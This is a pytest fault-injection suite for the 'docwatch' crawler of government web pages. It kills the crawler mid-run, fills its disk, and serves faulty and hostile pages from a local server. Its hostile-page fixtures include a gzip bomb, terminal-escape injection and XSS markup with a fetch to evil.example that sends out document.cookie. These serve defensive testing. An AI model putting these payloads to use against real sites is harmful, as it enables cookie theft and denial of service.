"""Fault injection: the real `docwatch` command killed with SIGKILL at seeded random points,
on a full file system, and against a real server on 127.0.0.1 that misbehaves (errors, hangs,
resets, truncated bodies, anti-bot challenges, soft 404s) or answers with hostile pages.

Each test counts what must never happen (fetches lost, snapshots or archive submissions
duplicated, processes orphaned, tracebacks shown, files half-written), asserts every count is
zero, and adds it to the table printed at the end of the module, with or without `-s`.
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import os
import random
import socket
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import uuid
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil
import pytest
from warcio.archiveiterator import ArchiveIterator

from crawler.config.settings import resolve
from crawler.demo import EDITED_ARTICLE, SITE_DIR
from crawler.demo.fake_wayback import FakeWayback
from crawler.pipeline.extraction_pool import IN_PROCESS_PAGES
from crawler.run.runner import crawl_in_subprocess
from tests.conftest import resize_filesystem, small_filesystem
from tests.test_archive_queue import ACCESS, SECRET, cli_env, submissions
from tests.test_extract import broken_gb2312_page
from tests.test_attachments_e2e import write_xlsx

pytestmark = pytest.mark.e2e

SEED = 20261201
MARK = "DOCWATCH_FAULT_SUITE_RUN"  # in the environment of every process a test starts, and their children
ARTICLE = (SITE_DIR / EDITED_ARTICLE).read_text("utf-8")  # a real government CMS article
ARTICLE_FIGURE = "整建制转移内地企业就业20859人"
FOLLOW = r"/col/\d{6}/[0-9a-f]{32}\.shtml$"
TRACEBACK = "Traceback (most recent call last)"
ARTICLE_SNAPSHOTS = "SELECT count(*) FROM snapshots s JOIN pages p ON p.id = s.page_id WHERE p.kind = 'article'"


# --- the figures table ---------------------------------------------------------------------


@dataclass
class Figures:
    lost: int = 0  # fetched and neither recorded nor stored by the next crawl
    duplicated: int = 0  # two snapshots in a row with the same text, or a URL submitted twice
    orphaned: int = 0  # processes of a crawl left alive after it ended
    tracebacks: int = 0  # Python tracebacks on a user's terminal
    half_written: int = 0  # WARC files a sequential reader cannot read, databases failing integrity_check

    def assert_zero(self) -> None:
        assert self == Figures(), self


RESULTS: dict[str, Figures] = {}


@pytest.fixture(scope="module", autouse=True)
def figures_table(request) -> Iterator[None]:
    """Prints the table to the terminal itself, so it shows without `-s` too."""
    yield
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or not RESULTS:
        return
    names = list(Figures.__dataclass_fields__)
    width = max(len(test) for test in RESULTS)
    lines = ["", f"fault injection figures (seed {SEED})",
             f"{'test':<{width}}  " + "  ".join(f"{name:>12}" for name in names)]
    lines += [f"{test:<{width}}  " + "  ".join(f"{getattr(figures, n):>12}" for n in names)
              for test, figures in RESULTS.items()]
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        for line in lines:
            reporter.write_line(line)


@pytest.fixture
def figures(request) -> Figures:
    counted = RESULTS[request.node.name.removeprefix("test_")] = Figures()
    return counted


# --- a real server that misbehaves on request ------------------------------------------------


@dataclass
class Answer:
    status: int = 200
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=lambda: {"Content-Type": "text/html; charset=utf-8"})
    fault: str | None = None  # "hang" (never answers), "reset" (TCP RST), "truncate" (half the body)
    stream_bytes: int = 0  # instead of `body`: this many bytes of filler, written as they are read
    delay: float = 0  # seconds before answering: a slow server


class FaultySite(ThreadingHTTPServer):
    """Serves `answers` (path → Answer, editable while running; `dynamic` for any other path)."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _FaultyHandler)
        self.answers: dict[str, Answer] = {}
        self.dynamic: Callable[[str], Answer | None] = lambda path: None
        self.requests: list[str] = []
        self.closing = threading.Event()
        self.base_url = f"http://127.0.0.1:{self.server_address[1]}"

    def __enter__(self) -> FaultySite:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.closing.set()
        self.shutdown()
        self.server_close()


class _FaultyHandler(BaseHTTPRequestHandler):
    server: FaultySite

    def do_GET(self) -> None:  # noqa: N802 (http.server naming)
        self.server.requests.append(self.path)
        answer = self.server.answers.get(self.path) or self.server.dynamic(self.path) or Answer(404, b"not found")
        if answer.fault == "hang" or self.server.closing.wait(answer.delay):
            self.server.closing.wait(120)
            return
        if answer.fault == "reset":
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.connection.close()
            self.wfile = self.rfile = open(os.devnull, "rb+")  # noqa: SIM115 (closed by finish())
            return
        length = answer.stream_bytes or len(answer.body)
        self.send_response(answer.status)
        for name, value in answer.headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(length))
        self.end_headers()
        try:
            if answer.stream_bytes:
                chunk = b"<p>" + b"x" * 65_530 + b"</p>"
                for _ in range(answer.stream_bytes // len(chunk)):
                    self.wfile.write(chunk)
            else:
                self.wfile.write(answer.body[: len(answer.body) // 2] if answer.fault == "truncate" else answer.body)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the crawler hung up: what a size cap does

    def log_message(self, format: str, *args) -> None:  # noqa: A002 (stdlib signature)
        pass


@pytest.fixture
def faulty_site() -> Iterator[FaultySite]:
    with FaultySite() as site:
        yield site


def article(number: int, version: int = 0, padding: str = "") -> bytes:
    """The real article, made the `number`th of a column: its own figure, edited `version` times."""
    html = ARTICLE.replace(ARTICLE_FIGURE, f"整建制转移内地企业就业{20000 + number * 10 + version}人")
    return html.replace("</p>\n</div>", f"</p>\n<p>{padding}</p>\n</div>", 1).encode("utf-8")


def article_path(number: int) -> str:
    return f"/col/202401/{hashlib.md5(str(number).encode()).hexdigest()}.shtml"


def listing_page(paths: list[str], next_path: str | None) -> bytes:
    links = "".join(f'<li><a href="{path}">第{i}篇</a></li>' for i, path in enumerate(paths))
    more = f'<a href="{next_path}">下一页</a>' if next_path else ""
    return f"<html><head><title>工作动态</title></head><body><ul>{links}</ul>{more}</body></html>".encode()


def serve_column(site: FaultySite, count: int, per_page: int = 10, padding: Callable[[int], str] = lambda n: "",
                 delay: float = 0) -> list[str]:
    """A column of `count` articles on listing pages of `per_page` (index.shtml, index_1.shtml, …)."""
    paths = [article_path(n) for n in range(count)]
    pages = [paths[i:i + per_page] for i in range(0, count, per_page)]
    for number, page in enumerate(pages):
        name = "/col/index.shtml" if number == 0 else f"/col/index_{number}.shtml"
        following = f"/col/index_{number + 1}.shtml" if number + 1 < len(pages) else None
        site.answers[name] = Answer(body=listing_page(page, following))
    for number, path in enumerate(paths):
        site.answers[path] = Answer(body=article(number, padding=padding(number)), delay=delay)
    return paths


def column_watchlist(tmp_path: Path, site: FaultySite, pages: int, extra_sources: str = "") -> Path:
    path = tmp_path / "watchlist.yaml"
    path.write_text(f"""
keyword_sets:
  labor_transfer:
    terms: [转移就业, 富余劳动力]
sources:
  - id: column
    url: "{site.base_url}/col/index.shtml"
    type: listing
    follow: '{FOLLOW}'
    pages: {pages}
    max_items: 500
    obey_robots: false
{extra_sources}""", "utf-8")
    return path


# --- running docwatch and looking at what it left ----------------------------------------------


class Docwatch:
    """The real command line on one data directory; every process it starts carries `mark`."""

    def __init__(self, tmp_path: Path, watchlist: Path, data_dir: Path | None = None, **env: str) -> None:
        self.data_dir = data_dir or tmp_path / "data"
        self.db_path = self.data_dir / "docwatch.db"
        self.watchlist = watchlist
        self.mark = uuid.uuid4().hex
        self.env = {**os.environ, "DOCWATCH_ENV": "local", MARK: self.mark, **env}
        self.outputs: list[str] = []
        self.orphaned = 0  # left alive by the processes `kill` killed

    def command(self, *args: str) -> list[str]:
        return [sys.executable, "-m", "crawler", "--db", str(self.db_path), "--watchlist", str(self.watchlist),
                "--data-dir", str(self.data_dir), *args]

    def start(self, *args: str) -> subprocess.Popen:
        return subprocess.Popen(self.command(*args), env=self.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True)

    def run(self, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
        result = subprocess.run(self.command(*args), env=self.env, capture_output=True, text=True, timeout=timeout)
        self.outputs.append(result.stdout + result.stderr)
        return result

    def kill(self, process: subprocess.Popen, wait: float = 5) -> set[psutil.Process]:
        """SIGKILL, as `kill -9`; returns the processes it had started, and adds those it left
        alive (`wait` seconds later) to `orphaned`."""
        children: set[psutil.Process] = set()
        with contextlib.suppress(psutil.NoSuchProcess):
            children = set(psutil.Process(process.pid).children(recursive=True))
        process.kill()
        process.wait()
        self.orphaned += self.orphans(wait)  # first: orphans would keep its output pipes open
        stdout, stderr = process.communicate()
        self.outputs.append((stdout or "") + (stderr or ""))
        return children

    def orphans(self, wait: float = 5) -> int:
        """Processes started by this test's docwatch commands still alive (after `wait` seconds
        for them to go); they are killed, so that each is counted once."""
        deadline = time.monotonic() + wait
        while (alive := self.marked_processes()) and time.monotonic() < deadline:
            time.sleep(0.1)
        for process in alive:
            with contextlib.suppress(psutil.NoSuchProcess):
                process.kill()
        return len(alive)

    def marked_processes(self) -> list[psutil.Process]:
        found = []
        for process in psutil.process_iter():
            with contextlib.suppress(psutil.Error):
                if process.pid != os.getpid() and process.environ().get(MARK) == self.mark \
                        and process.status() != psutil.STATUS_ZOMBIE:
                    found.append(process)
        return found

    def query(self, sql: str, *params) -> list[tuple]:
        con = sqlite3.connect(self.db_path)
        try:
            return con.execute(sql, params).fetchall()
        finally:
            con.close()

    def tracebacks(self) -> int:
        for output in self.outputs:
            if TRACEBACK in output:  # shown with the failure (pytest prints what a test printed)
                print(f"--- a docwatch process printed a traceback ---\n{output[-6000:]}")
        return sum(output.count(TRACEBACK) for output in self.outputs)

    def database_damaged(self) -> int:
        return self.query("PRAGMA integrity_check") != [("ok",)]

    def half_written(self) -> int:
        """Damaged WARC files (read start to end, as pywb or warcio do) and a database that fails
        SQLite's integrity check."""
        damaged = 0
        for warc in sorted((self.data_dir / "warc").glob("*.warc.gz")):
            try:
                gzip.decompress(warc.read_bytes())  # every member whole, every CRC right
                with warc.open("rb") as stream:
                    for record in ArchiveIterator(stream):
                        record.content_stream().read()
            except Exception:  # noqa: BLE001 (any failure to read is the figure)
                damaged += 1
        return damaged + self.database_damaged()

    def duplicated_snapshots(self) -> int:
        """Snapshots whose text is the same as the page's snapshot just before."""
        rows = self.query("SELECT page_id, text_sha256 FROM snapshots ORDER BY page_id, id")
        return sum(a == b for a, b in zip(rows, rows[1:]))

    def latest_texts(self) -> dict[str, str]:
        rows = self.query("SELECT p.url, s.text FROM pages p JOIN snapshots s ON s.id = p.latest_snapshot_id")
        return dict(rows)


def not_stored(docwatch: Docwatch, site: FaultySite, paths: list[str], version: Callable[[int], int]) -> int:
    """Articles whose latest snapshot is not the version the site serves now."""
    texts = docwatch.latest_texts()
    return sum(f"就业{20000 + n * 10 + version(n)}人" not in texts.get(site.base_url + path, "")
               for n, path in enumerate(paths))


# --- kill -9 -----------------------------------------------------------------------------------


def test_kill_9_at_random_points_mid_crawl_loses_duplicates_and_orphans_nothing(tmp_path, faulty_site, figures):
    rng = random.Random(SEED)
    paths = serve_column(faulty_site, 30)
    versions = [0] * len(paths)
    docwatch = Docwatch(tmp_path, column_watchlist(tmp_path, faulty_site, pages=3))
    killed_pids, started = [], []
    for _ in range(5):
        for number in rng.sample(range(len(paths)), 4):  # edits between crawls: changed pages too
            versions[number] += 1
            faulty_site.answers[paths[number]] = Answer(body=article(number, versions[number]))
        served_before, kill_after = len(faulty_site.requests), rng.randint(1, len(paths))
        crawl = docwatch.start("crawl")
        deadline = time.monotonic() + 60
        while len(faulty_site.requests) - served_before < kill_after and crawl.poll() is None \
                and time.monotonic() < deadline:
            time.sleep(0.005)
        time.sleep(rng.uniform(0, 0.5))  # into extraction, storing, the WARC append
        if crawl.poll() is None:
            killed_pids.append(crawl.pid)
        started.append(len(docwatch.kill(crawl)))
        figures.half_written += docwatch.database_damaged()  # a WARC record cut short is cut off by the next append

    final = docwatch.run("crawl")
    assert final.returncode == 0, final.stderr
    figures.lost = not_stored(docwatch, faulty_site, paths, lambda n: versions[n])
    figures.duplicated = docwatch.duplicated_snapshots()
    figures.tracebacks = docwatch.tracebacks()
    figures.half_written += docwatch.half_written()
    figures.orphaned = docwatch.orphaned + docwatch.orphans()
    figures.assert_zero()
    assert max(started) >= 2, "no crawl was killed while its workers ran"
    # A run the kill caught is marked interrupted by the next crawl; one that was only exiting is done.
    statuses = Counter(status for pid in killed_pids for (status,) in docwatch.query("SELECT status FROM runs WHERE pid = ?", pid))
    assert set(statuses) <= {"interrupted", "done"} and statuses["interrupted"] >= 3, statuses


def test_kill_9_at_random_points_mid_archive_never_submits_twice(tmp_path, faulty_site, figures):
    rng = random.Random(SEED)
    paths = serve_column(faulty_site, 8)
    with FakeWayback(ACCESS, SECRET, polls_until_done=4, finish_unpolled_after=1) as wayback:
        env = {**cli_env(wayback), "DOCWATCH_ARCHIVE_POLL_INTERVAL": "0.2", "DOCWATCH_ARCHIVE_CAPTURES_PER_MINUTE": "60"}
        del env["DOCWATCH_WATCHLIST"]
        docwatch = Docwatch(tmp_path, column_watchlist(tmp_path, faulty_site, pages=1), **env)
        crawl = docwatch.run("crawl")
        assert crawl.returncode == 0, crawl.stderr
        for _ in range(3):
            answered_before, kill_after = len(wayback.requests), rng.randint(2, 20)
            worker = docwatch.start("archive", "run")
            deadline = time.monotonic() + 30
            while len(wayback.requests) - answered_before < kill_after and worker.poll() is None \
                    and time.monotonic() < deadline:
                time.sleep(0.005)
            docwatch.kill(worker)
            figures.half_written += docwatch.half_written()
        finished = docwatch.run("archive", "run")
        assert finished.returncode == 0, finished.stderr
        submitted = submissions(wayback)
    queued = {faulty_site.base_url + path for path in ["/col/index.shtml", *paths]}  # the list page is evidence too
    figures.duplicated = sum(count - 1 for count in submitted.values())
    figures.lost = len(queued - set(submitted))
    figures.orphaned = docwatch.orphaned
    figures.tracebacks = docwatch.tracebacks()
    figures.assert_zero()
    assert docwatch.query("SELECT state, count(*) FROM archive_requests GROUP BY state") == [("done", len(queued))]


def test_the_daemon_s_time_limit_kills_the_crawl_with_its_workers(tmp_path, faulty_site, figures, monkeypatch):
    articles = IN_PROCESS_PAGES + 4  # more than the crawl extracts itself: it starts its workers
    serve_column(faulty_site, articles)
    faulty_site.answers["/stuck.shtml"] = Answer(fault="hang")
    watchlist = column_watchlist(tmp_path, faulty_site, pages=2, extra_sources=f"""
  - id: stuck
    url: "{faulty_site.base_url}/stuck.shtml"
    type: page
    obey_robots: false
""")
    docwatch = Docwatch(tmp_path, watchlist)
    monkeypatch.setenv(MARK, docwatch.mark)
    monkeypatch.setenv("DOCWATCH_ENV", "local")
    config = resolve({"db": str(docwatch.db_path), "watchlist": str(watchlist), "data_dir": str(docwatch.data_dir)})
    seen: set[int] = set()
    outcome: list[BaseException | subprocess.CompletedProcess] = []

    def crawl_as_the_daemon_does() -> None:
        try:
            # 20 s: time for a loaded machine to store the articles, while the stuck page is
            # still being retried (10 s download timeout, then a 5 s backoff and a second 10 s wait)
            outcome.append(crawl_in_subprocess(config, ["column", "stuck"], "daemon", timeout=20))
        except subprocess.TimeoutExpired as timed_out:
            outcome.append(timed_out)

    crawling = threading.Thread(target=crawl_as_the_daemon_does)
    crawling.start()
    while crawling.is_alive():
        seen.update(process.pid for process in docwatch.marked_processes())
        time.sleep(0.05)
    assert [type(o) for o in outcome] == [subprocess.TimeoutExpired], outcome
    figures.orphaned = docwatch.orphans(wait=2)
    figures.half_written = docwatch.half_written()
    figures.assert_zero()
    assert len(seen) >= 3, "the crawl had not started its extraction workers"  # the crawl and its workers
    assert docwatch.query(ARTICLE_SNAPSHOTS) == [(articles,)]


def crawl_watching_children(docwatch: Docwatch) -> tuple[subprocess.CompletedProcess, int]:
    """`docwatch crawl`, and how many processes it had started at most while it ran (their
    command lines are printed, for a failure to show what they were)."""
    crawl = docwatch.start("crawl")
    most, seen = 0, {}
    while crawl.poll() is None:
        with contextlib.suppress(psutil.NoSuchProcess, psutil.AccessDenied):
            children = psutil.Process(crawl.pid).children()
            most = max(most, len(children))
            for child in children:
                seen.setdefault(child.pid, " ".join(child.cmdline())[:300])
        time.sleep(0.02)
    stdout, stderr = crawl.communicate()
    print("children of the crawl:", seen)
    return subprocess.CompletedProcess(crawl.args, crawl.returncode, stdout, stderr), most


def test_a_crawl_of_a_few_pages_extracts_them_itself_and_a_larger_one_starts_extraction_workers(tmp_path, faulty_site):
    """A worker costs about half a CPU second to start: not worth it for a handful of pages."""
    serve_column(faulty_site, IN_PROCESS_PAGES + 12, per_page=IN_PROCESS_PAGES)
    for folder in ("few", "many"):
        (tmp_path / folder).mkdir()
    few = Docwatch(tmp_path, column_watchlist(tmp_path / "few", faulty_site, pages=1), data_dir=tmp_path / "few")
    many = Docwatch(tmp_path, column_watchlist(tmp_path / "many", faulty_site, pages=3), data_dir=tmp_path / "many")

    crawled, processes = crawl_watching_children(few)
    assert crawled.returncode == 0, crawled.stderr
    assert f"{IN_PROCESS_PAGES} pages fetched, {IN_PROCESS_PAGES} new" in crawled.stdout
    assert processes == 0
    assert few.query(ARTICLE_SNAPSHOTS) == [(IN_PROCESS_PAGES,)]

    crawled, processes = crawl_watching_children(many)
    assert crawled.returncode == 0, crawled.stderr
    assert f"{IN_PROCESS_PAGES + 12} pages fetched, {IN_PROCESS_PAGES + 12} new" in crawled.stdout
    assert processes >= 1
    assert many.query(ARTICLE_SNAPSHOTS) == [(IN_PROCESS_PAGES + 12,)]
    assert many.orphans(wait=2) == 0


LIFELINE_PARENT = """
import os, subprocess, sys, time
child = subprocess.Popen([sys.executable, "-c", "import sys, time; from crawler.lifeline import die_with_parent; "
                          "die_with_parent(int(sys.argv[1])); print(flush=True); time.sleep(120)", str(os.getpid())],
                         stdout=subprocess.PIPE)
child.stdout.readline()
print(child.pid, flush=True)
time.sleep(120)
"""


def test_a_child_with_a_lifeline_dies_with_its_parent(tmp_path, figures):
    """What the extraction workers and the document readers do first, on its own."""
    docwatch = Docwatch(tmp_path, tmp_path / "watchlist.yaml")
    parent = subprocess.Popen([sys.executable, "-c", LIFELINE_PARENT], env=docwatch.env, stdout=subprocess.PIPE, text=True)
    child = psutil.Process(int(parent.stdout.readline()))
    assert child.is_running() and child.ppid() == parent.pid
    docwatch.kill(parent)
    figures.orphaned = docwatch.orphaned
    figures.assert_zero()


READ_DOCUMENT = "import sys; from crawler.extract.documents import extract_document_text; " \
                "extract_document_text(open(sys.argv[1], 'rb').read(), 'xlsx')"


def long_spreadsheet(path: Path, rows: int) -> Path:
    """A real XLSX whose one sheet has `rows` rows: small on disk, seconds to read."""
    write_xlsx(path.with_suffix(".template.xlsx"))
    with zipfile.ZipFile(path.with_suffix(".template.xlsx")) as parts, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as long:
        for item in parts.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                long.writestr(item, parts.read(item))
        with long.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for row in range(1, rows + 1):
                sheet.write(f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>转移就业{row}人</t></is></c></row>'.encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_a_document_reader_dies_with_the_crawl_that_started_it(tmp_path, figures):
    docwatch = Docwatch(tmp_path, tmp_path / "watchlist.yaml")
    spreadsheet = long_spreadsheet(tmp_path / "long.xlsx", 300_000)
    crawl = subprocess.Popen([sys.executable, "-c", READ_DOCUMENT, str(spreadsheet)], env=docwatch.env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 30
    reading = False  # the reader has its file and works on it: not merely starting
    while not reading and crawl.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
        with contextlib.suppress(psutil.Error):
            readers = psutil.Process(crawl.pid).children()
            reading = bool(readers) and readers[0].cpu_times().user > 1.0
    assert reading, "the reader was not seen reading"
    docwatch.kill(crawl, wait=2)  # the reader would go on for seconds more
    figures.orphaned = docwatch.orphaned
    figures.tracebacks = docwatch.tracebacks()
    figures.assert_zero()


# --- a full disk ---------------------------------------------------------------------------


def test_a_full_disk_stops_the_crawl_once_and_the_next_crawl_with_space_completes(tmp_path, faulty_site, figures):
    rng = random.Random(SEED)
    filler = {n: "".join(rng.choice("转移就业培训劳动力富余有组织") for _ in range(20_000)) for n in range(60)}
    paths = serve_column(faulty_site, 60, padding=filler.__getitem__, delay=0.5)  # ≈ 60 KB of text each
    with small_filesystem(tmp_path / "data", "1m") as data_dir:
        docwatch = Docwatch(tmp_path, column_watchlist(tmp_path, faulty_site, pages=6), data_dir)
        full = docwatch.run("crawl")
        assert full.returncode == 1, full.stdout + full.stderr
        assert full.stderr.count("No space left on device") + full.stderr.count("database or disk is full") == 1, \
            full.stderr
        assert "the crawl stopped: cannot write to" in full.stderr
        fetched = {path for path in faulty_site.requests if path in paths}
        stored = docwatch.query("SELECT count(*) FROM snapshots")
        assert len(fetched) < len(paths), f"the crawl went on fetching what it could not keep ({stored} stored)"
        figures.half_written = docwatch.half_written()
        [(status, error)] = docwatch.query("SELECT status, error FROM runs")
        assert status == "failed" and "cannot write to" in error, (status, error, full.stderr)
        recorded = {url for (url,) in docwatch.query("SELECT url FROM fetches")}
        still_full = docwatch.run("crawl")  # the reserve is spent: this one may not even start
        assert still_full.returncode == 1 and "free some space and crawl again" in still_full.stderr.lower(), \
            still_full.stderr

        resize_filesystem(data_dir, "64m")
        again = docwatch.run("crawl")
        assert again.returncode == 0, again.stderr
        [(last_run,)] = docwatch.query("SELECT max(id) FROM runs")
        figures.lost = not_stored(docwatch, faulty_site, paths, lambda n: 0)
        figures.lost += len({faulty_site.base_url + p for p in fetched} - recorded
                            - {url for (url,) in docwatch.query("SELECT url FROM fetches WHERE run_id = ?", last_run)})
        figures.duplicated = docwatch.duplicated_snapshots()
        figures.tracebacks = docwatch.tracebacks()
        figures.half_written += docwatch.half_written()
        figures.orphaned = docwatch.orphans()
    figures.assert_zero()


# --- server faults ---------------------------------------------------------------------------


CHALLENGE = b"<html><script>var _0x=1;document.cookie='__jsl_clearance=1';location.reload()</script></html>"
SOFT_404 = "<html><head><title>页面不存在</title></head><body><h1>您访问的页面不存在</h1></body></html>".encode()
# path → (the fault, what the failed or gone fetch must say, whether it counts towards "removed")
SERVER_FAULTS = {
    "/f/500.shtml": (Answer(500, b"oops"), "HTTP 500", False),
    "/f/503.shtml": (Answer(503, b"busy"), "HTTP 503", False),
    "/f/hang.shtml": (Answer(fault="hang"), "TimeoutError", False),
    "/f/reset.shtml": (Answer(fault="reset"), "Connection", False),
    "/f/truncated.shtml": (Answer(body=article(1), fault="truncate"), "ResponseDataLossError", False),
    "/f/521.shtml": (Answer(521, CHALLENGE), "HTTP 521 (anti-bot challenge)", False),
    "/f/challenge.shtml": (Answer(200, CHALLENGE), "anti-bot JavaScript challenge page", False),
    "/f/soft404.shtml": (Answer(200, SOFT_404), "error page: 页面不存在", True),
    "/f/gone-home.shtml": (Answer(302, b"", {"Location": "/"}), "redirected to the site's home page", True),
    "/f/loop.shtml": (Answer(302, b"", {"Location": "/f/loop-back.shtml"}), "redirect loop", False),
}
# The other half of the loop: not watched, it sends the watched page's request back where it came from.
LOOP_BACK = {"/f/loop-back.shtml": Answer(301, b"", {"Location": "/f/loop.shtml"})}


def page_sources(site: FaultySite, paths) -> str:
    return "".join(f"""
  - id: {path.strip("/").replace("/", "-").removesuffix(".shtml")}
    url: "{site.base_url}{path}"
    type: page
    obey_robots: false
""" for path in paths)


def test_server_faults_are_recorded_failures_and_never_false_removals(tmp_path, faulty_site, figures):
    faulty_site.answers["/"] = Answer(body="<html><title>首页</title><body>首页 新闻</body></html>".encode())
    for number, path in enumerate(SERVER_FAULTS):
        faulty_site.answers[path] = Answer(body=article(number))
    watchlist = tmp_path / "watchlist.yaml"
    watchlist.write_text("sources:" + page_sources(faulty_site, SERVER_FAULTS), "utf-8")
    docwatch = Docwatch(tmp_path, watchlist, DOCWATCH_DOWNLOAD_TIMEOUT="2")
    assert docwatch.run("crawl").returncode == 0
    for path, (fault, _, _) in SERVER_FAULTS.items():
        faulty_site.answers[path] = fault
    faulty_site.answers.update(LOOP_BACK)
    for run in (2, 3):
        result = docwatch.run("crawl")
        assert result.returncode == 0, result.stderr
        rows = dict(docwatch.query("SELECT url, outcome || ': ' || error FROM fetches WHERE run_id = ?", run))
        for path, (_, reason, counts_as_gone) in SERVER_FAULTS.items():
            recorded = rows.get(faulty_site.base_url + path)
            figures.lost += recorded is None
            expected = "gone" if counts_as_gone else "failed"
            assert recorded is not None and recorded.startswith(expected) and reason in recorded, (path, recorded)
    removed = {url.removeprefix(faulty_site.base_url) for (url,) in docwatch.query("SELECT url FROM events WHERE type = 'removed'")}
    assert removed == {path for path, (_, _, gone) in SERVER_FAULTS.items() if gone}
    errors = Counter(url for (url,) in docwatch.query("SELECT url FROM events WHERE type = 'fetch_error'"))
    assert errors == Counter({faulty_site.base_url + path: 1 for path, (_, _, gone) in SERVER_FAULTS.items() if not gone})
    states = dict(docwatch.query("SELECT url, state FROM pages"))
    assert {path: states[faulty_site.base_url + path] for path, (_, _, gone) in SERVER_FAULTS.items() if not gone} \
        == {path: "live" for path, (_, _, gone) in SERVER_FAULTS.items() if not gone}
    assert docwatch.query("SELECT count(*) FROM snapshots") == [(len(SERVER_FAULTS),)]
    figures.duplicated = docwatch.duplicated_snapshots()
    figures.tracebacks = docwatch.tracebacks()
    figures.half_written = docwatch.half_written()
    figures.orphaned = docwatch.orphans()
    figures.assert_zero()


# --- hostile pages -----------------------------------------------------------------------------


def gzip_bomb(expanded: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    block = b"\0" * (1 << 20)
    return b"".join(compressor.compress(block) for _ in range(expanded >> 20)) + compressor.flush()


NESTED = ("<html><head><title>嵌套</title></head><body>" + "<div>" * 100_000 + "转移就业" + "</div>" * 100_000
          + "</body></html>").encode()
SCRIPTED = ("<html><head><title>转移就业&lt;script&gt;alert(1)&lt;/script&gt;</title>"
            "<script>fetch('http://evil.example/'+document.cookie)</script></head><body><div id='zoom'>"
            "<p>转移就业1000人次<img src=x onerror=alert(2)></p><script>alert(3)</script></div></body></html>").encode()
BROKEN_BYTES = broken_gb2312_page()[0]  # declared gb2312, four invalid byte sequences
FIGURE_WITH_404 = ("<html><head><title>皮山县转移就业2404人</title></head><body><div id='zoom'>"
                   "<p>皮山县转移就业2404人。</p></div></body></html>").encode()
CONTROLS = "<html><head><title>转移\u202e就业\x1b[31m\x07红\u200f</title></head><body><div id='zoom'><p>转移就业\x1b[2J 2000人次\u202e</p></div></body></html>".encode()


def test_hostile_pages_are_bounded_and_recorded_without_a_traceback(tmp_path, faulty_site, figures):
    pages = {
        "/h/huge.shtml": Answer(stream_bytes=200 << 20),
        "/h/bomb.shtml": Answer(body=gzip_bomb(64 << 20), headers={"Content-Type": "text/html", "Content-Encoding": "gzip"}),
        "/h/nested.shtml": Answer(body=NESTED),
        "/h/scripted.shtml": Answer(body=SCRIPTED),
        "/h/controls.shtml": Answer(body=CONTROLS),
        "/h/broken-bytes.shtml": Answer(body=BROKEN_BYTES, headers={"Content-Type": "text/html; charset=gb2312"}),
        "/h/figure-404.shtml": Answer(body=FIGURE_WITH_404),
    }
    faulty_site.answers.update(pages)
    trap_pages = []

    def pagination_trap(path: str) -> Answer | None:  # every listing page links a next one
        if path.startswith("/trap/index"):
            trap_pages.append(path)
            return Answer(body=listing_page([], f"/trap/index_{len(trap_pages)}.shtml"))
        return None

    faulty_site.dynamic = pagination_trap
    watchlist = tmp_path / "watchlist.yaml"
    watchlist.write_text("sources:" + page_sources(faulty_site, pages) + f"""
  - id: trap
    url: "{faulty_site.base_url}/trap/index.shtml"
    type: listing
    follow: '/trap/articles/'
    pages: 5
    obey_robots: false
""", "utf-8")
    docwatch = Docwatch(tmp_path, watchlist, DOCWATCH_MAX_PAGE_BYTES="2000000")
    started = time.monotonic()
    result = docwatch.run("crawl", timeout=120)
    took = time.monotonic() - started
    assert result.returncode == 0, result.stderr
    assert took < 60, took
    assert len(trap_pages) == 5
    outcomes = dict(docwatch.query("SELECT url, outcome || ': ' || coalesce(error, '') FROM fetches WHERE kind != 'listing'"))
    recorded = {url.removeprefix(faulty_site.base_url): outcome for url, outcome in outcomes.items()}
    figures.lost = len(set(pages) - set(recorded))
    assert recorded["/h/huge.shtml"].startswith("failed") and recorded["/h/bomb.shtml"].startswith("failed"), recorded
    assert recorded["/h/scripted.shtml"] == "new: " and recorded["/h/controls.shtml"] == "new: ", recorded
    [(title, text)] = docwatch.query("SELECT title, text FROM snapshots WHERE final_url LIKE '%scripted%'")
    assert "evil.example" not in text and "alert(3)" not in text and "转移就业1000人次" in text
    # Invalid bytes in a GB page: the text around them survives, and how many were bad is recorded.
    assert recorded["/h/broken-bytes.shtml"] == "new: ", recorded
    [(encoding, bad, text)] = docwatch.query(
        "SELECT encoding, undecodable_bytes, text FROM snapshots WHERE final_url LIKE '%broken-bytes%'")
    assert encoding == "gb18030" and bad > 0 and "全县累计转移就业2404人" in text.replace("\ufffd", "")
    # A figure containing 404 is a page, not a "page not found".
    assert recorded["/h/figure-404.shtml"] == "new: ", recorded
    assert docwatch.query("SELECT count(*) FROM events WHERE type = 'removed'") == [(0,)]
    figures.duplicated = docwatch.duplicated_snapshots()
    figures.tracebacks = docwatch.tracebacks()
    figures.half_written = docwatch.half_written()
    figures.orphaned = docwatch.orphans()
    figures.assert_zero()
